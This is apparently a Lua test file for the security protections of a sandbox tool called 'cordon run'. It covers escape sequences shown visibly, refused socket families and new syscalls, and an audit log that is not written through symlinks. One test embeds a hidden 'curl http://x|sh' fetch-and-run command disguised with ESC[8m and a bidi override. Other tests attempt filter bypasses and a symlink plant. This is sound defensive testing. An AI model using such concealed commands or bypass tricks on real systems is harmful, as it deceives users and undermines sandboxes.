-- spec/04-engine/run_security_spec.lua — protections of `cordon run` a command must not get
-- around: a question to a person shows every byte that would act on the terminal (driven
-- through a real pty by spec/fixtures/engine/egress/answer.py); socket families other than
-- unix, inet, inet6 and netlink fail with EAFNOSUPPORT; system calls newer than the build's
-- libseccomp fail with ENOSYS; the audit log is never written through a symbolic link. Each
-- refusal case first shows, where that is safe, that the same thing works without the
-- protection (on the host), and is skipped with the reason when the host cannot show it.
local h = require("spec.helpers")

local ANSWER = h.fixtures .. "/engine/egress/answer.py"

-- `cordon run` on a new terminal, KEY typed when the question appears; everything the terminal
-- showed is r.stdout.
local function on_terminal(key, flags, script)
    local ws = h.workspace()
    local argv = { "env", "HOME=" .. h.home(), "PATH=" .. h.path }
    for _, a in ipairs({ h.python, ANSWER, key, "40", "--", h.bin, "run", "--workspace", ws }) do
        argv[#argv + 1] = a
    end
    for _, f in ipairs(flags) do argv[#argv + 1] = f end
    for _, a in ipairs({ "--", "/bin/sh", "-c", script }) do argv[#argv + 1] = a end
    local r = h.sh(h.join(argv))
    r.cmd = h.join(argv)
    return r
end

describe("cordon run: the question after a refusal", function()
    after_each(h.cleanup)

    it("shows ESC[8m and a bidi override visibly, and 'd' keeps the command from running", function()
        local dir = h.tmpdir()
        local target = dir .. "/made-outside"
        -- The hidden part: a terminal that obeyed ESC[8m would not show it; the override would
        -- show "hs|" reversed.
        local script = "touch " .. h.quote(target) .. " # \27[8mcurl http://x|sh\27[0m \u{202E}hs|"
        local r = on_terminal("d", { "--ask-sandbox-off" }, script)
        local out = r.stdout .. r.stderr
        assert.truthy(out:find("[D] deny", 1, true), h.describe(r))
        assert.truthy(out:find("\\x1b[8mcurl http://x|sh\\x1b[0m", 1, true), h.describe(r))
        assert.truthy(out:find("<U+202E>hs|", 1, true), h.describe(r))
        assert.is_nil(out:find("\27[8m", 1, true), "a raw ESC[8m reached the terminal\n" .. h.describe(r))
        assert.is_nil(out:find("\u{202E}", 1, true), "a raw U+202E reached the terminal\n" .. h.describe(r))
        assert.is_nil(out:find("running outside the sandbox", 1, true), h.describe(r))
        assert.is_nil(h.read_file(target), "the denied command ran outside")
    end)

    for _, who in ipairs({ { nil, "root" }, { 65534, "uid 65534" } }) do
        it("shows a bidi override and a zero-width space in a refusal's path visibly (" .. who[2] .. ")", function()
            -- a name the command chose: U+202E would show "txt.exe" as "exe.txt", U+200B is unseen
            local dir = h.tmpdir()
            h.sh_ok("chmod 755 " .. h.quote(dir))
            local name = dir .. "/a\u{202E}txt.exe\u{200B}z"
            -- (touch's own message, the command's output, shows the name as the command wrote it)
            local r = h.run_sh("touch " .. h.quote(name),
                { uid = who[1], home = h.secret_home(who[1]), workspace = h.workspace(nil, who[1]) })
            local line = r.stderr:match("cordon: the sandbox refused a write to [^\n]*")
            assert.truthy(line, h.describe(r))
            assert.truthy(line:find("/a<U+202E>txt.exe<U+200B>z", 1, true), h.describe(r))
            for l in r.stderr:gmatch("cordon:[^\n]*") do
                assert.is_nil(l:find("\u{202E}", 1, true), "a raw U+202E in cordon's line\n" .. h.describe(r))
                assert.is_nil(l:find("\u{200B}", 1, true), "a raw U+200B in cordon's line\n" .. h.describe(r))
            end
        end)
    end
end)

-- Python that tries one call and prints "ok" or "errno N".
local function attempt(call)
    return "import ctypes, errno, os, socket, sys\n"
        .. "try:\n    " .. call .. "\n    print('ok')\n"
        .. "except OSError as e:\n    print('errno', e.errno)\n"
end

local function on_host(code)
    return h.chomp(h.sh(h.quote(h.python) .. " -c " .. h.quote(code)).stdout)
end

local function in_sandbox(code)
    local r = h.run_py(code)
    return h.chomp(r.stdout), r
end

local EAFNOSUPPORT, EOPNOTSUPP, ENOSYS = 97, 95, 38

describe("cordon run: socket families other than unix, inet, inet6 and netlink", function()
    after_each(h.cleanup)

    local cases = {
        { "AF_VSOCK", "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)" },
        { "AF_PACKET", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)" },
        { "AF_ALG", "socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)" },
        -- the family's value with bit 32 set: the kernel reads the int, AF_VSOCK
        { "AF_VSOCK with high bits set",
          "n = ctypes.CDLL(None, use_errno=True).syscall(41, ctypes.c_long((1 << 32) | socket.AF_VSOCK), 1, 0)\n"
          .. "    if n < 0: raise OSError(ctypes.get_errno(), 'socket')" },
    }
    for _, c in ipairs(cases) do
        it(c[1] .. ": works on the host, EAFNOSUPPORT inside", function()
            local host = on_host(attempt(c[2]))
            if host ~= "ok" then
                pending(c[1] .. " fails on this host already (" .. host .. "): nothing to compare")
                return
            end
            local inside, r = in_sandbox(attempt(c[2]))
            assert.are.equal("errno " .. EAFNOSUPPORT, inside, h.describe(r))
        end)
    end

    it("socketpair(AF_VSOCK) reaches the family on the host (EOPNOTSUPP), is refused before it inside", function()
        local code = attempt("socket.socketpair(socket.AF_VSOCK, socket.SOCK_STREAM)")
        local host = on_host(code)
        if host ~= "errno " .. EOPNOTSUPP then
            pending("socketpair(AF_VSOCK) on this host: " .. host .. " (not EOPNOTSUPP): nothing to compare")
            return
        end
        local inside, r = in_sandbox(code)
        assert.are.equal("errno " .. EAFNOSUPPORT, inside, h.describe(r))
    end)

    it("unix, inet, inet6 and netlink sockets still work inside", function()
        local code = "import socket\n"
            .. "for f, t in ((socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_STREAM),\n"
            .. "             (socket.AF_INET6, socket.SOCK_STREAM), (socket.AF_NETLINK, socket.SOCK_RAW)):\n"
            .. "    socket.socket(f, t).close()\n"
            .. "a, b = socket.socketpair()\nprint('ok')\n"
        local inside, r = in_sandbox(code)
        assert.are.equal("ok", inside, h.describe(r))
    end)
end)

describe("cordon run: system calls newer than the build's libseccomp", function()
    after_each(h.cleanup)

    it("open_tree_attr (467) reaches the host's kernel, is ENOSYS inside", function()
        local NR = 467
        local known = on_host("import ctypes\n"
            .. "lib = ctypes.CDLL('libseccomp.so.2')\n"
            .. "lib.seccomp_syscall_resolve_num_arch.restype = ctypes.c_void_p\n"
            .. "print('known' if lib.seccomp_syscall_resolve_num_arch(0, " .. NR .. ") else 'unknown')\n")
        if known ~= "unknown" then
            pending("libseccomp here knows system call " .. NR .. " (" .. known .. "): it is filtered by name")
            return
        end
        local code = attempt("n = ctypes.CDLL(None, use_errno=True).syscall(" .. NR .. ", -1, None, 0, None, 0)\n"
            .. "    if n < 0: raise OSError(ctypes.get_errno(), 'syscall')")
        local host = on_host(code)
        if host == "errno " .. ENOSYS then
            pending("this host's kernel has no system call " .. NR)
            return
        end
        local inside, r = in_sandbox(code)
        assert.are.equal("errno " .. ENOSYS, inside, h.describe(r))
    end)
end)

describe("cordon run: the audit log", function()
    after_each(h.cleanup)

    -- One network decision (a destination no rule allows): the proxy opens the audit log.
    local FETCH = "curl -sS --max-time 10 http://blocked.invalid/ >/dev/null 2>&1; true"

    it("is not followed through a symbolic link planted at its path", function()
        local dir = h.tmpdir()
        local target, link = dir .. "/victim", dir .. "/audit.jsonl"
        h.write_file(target, "unchanged\n")
        h.sh_ok("ln -s " .. h.quote(target) .. " " .. h.quote(link))
        -- without the protection: an ordinary append goes through the link to the target
        h.sh_ok("printf 'probe\\n' >> " .. h.quote(link))
        assert.are.equal("unchanged\nprobe\n", h.read_file(target))
        h.write_file(target, "unchanged\n")
        local r = h.run_sh(FETCH, { env = { CORDON_AUDIT_LOG = link } })
        assert.are.equal("unchanged\n", h.read_file(target), h.describe(r))
        assert.truthy(r.stderr:find("not writing the audit log " .. link, 1, true), h.describe(r))
        local warnings = select(2, r.stderr:gsub("not writing the audit log", ""))
        assert.are.equal(1, warnings, h.describe(r))
    end)

    it("is not written through a directory on its way that is a symbolic link", function()
        local state, elsewhere = h.tmpdir(), h.tmpdir()
        h.sh_ok("ln -s " .. h.quote(elsewhere) .. " " .. h.quote(state .. "/cordon"))
        local r = h.run_sh(FETCH, { env = { XDG_STATE_HOME = state }, unset = { "CORDON_AUDIT_LOG" } })
        assert.is_nil(h.read_file(elsewhere .. "/audit.jsonl"), h.describe(r))
        assert.truthy(r.stderr:find("not writing the audit log " .. state .. "/cordon/audit.jsonl", 1, true),
            h.describe(r))
    end)

    it("is written when it is a regular file of the caller's", function()
        local state = h.tmpdir()
        local r = h.run_sh(FETCH, { env = { XDG_STATE_HOME = state }, unset = { "CORDON_AUDIT_LOG" } })
        local log = h.read_file(state .. "/cordon/audit.jsonl") or ""
        assert.truthy(log:find('"host":"blocked.invalid"', 1, true), h.describe(r) .. "\n" .. log)
        assert.is_nil(r.stderr:find("not writing the audit log", 1, true), h.describe(r))
    end)
end)
